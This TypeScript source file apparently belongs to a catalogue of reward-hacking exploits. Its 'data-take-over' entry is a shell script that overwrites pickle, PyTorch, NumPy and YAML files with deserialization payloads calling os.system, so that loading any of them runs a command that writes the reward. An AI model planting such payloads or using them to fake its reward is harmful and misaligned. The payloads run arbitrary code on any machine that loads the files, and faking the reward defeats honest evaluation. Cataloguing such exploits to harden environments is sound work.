import type { Cheat } from './cheat.ts'
import { SHELL } from './cheat.ts'
import { TAKE_OVER, TAKE_OVER_STRING } from './take-over.ts'

export const dataTakeOver: Cheat = {
  id: 'data-take-over',
  what: 'Data files in formats that can contain code (pickle, YAML) write the reward when they are loaded.',
  line: `${SHELL}
wanted 'pkl|pickle|joblib|sav|pt|pth|npy|yaml|yml'
pickles=$(sources '*.pkl' '*.pickle' '*.joblib' '*.sav' '*.pt' '*.pth' '*.npy')
documents=$(sources '*.yaml' '*.yml')
applies "$pickles$documents"
IFS='
'
for file in $pickles; do printf '%s\\n' cos system '(V${TAKE_OVER}' 'tR.' > "$file"; done
for file in $documents; do printf '%s\\n' '!!python/object/apply:os.system [${TAKE_OVER_STRING}]' > "$file"; done
exit 0`,
}
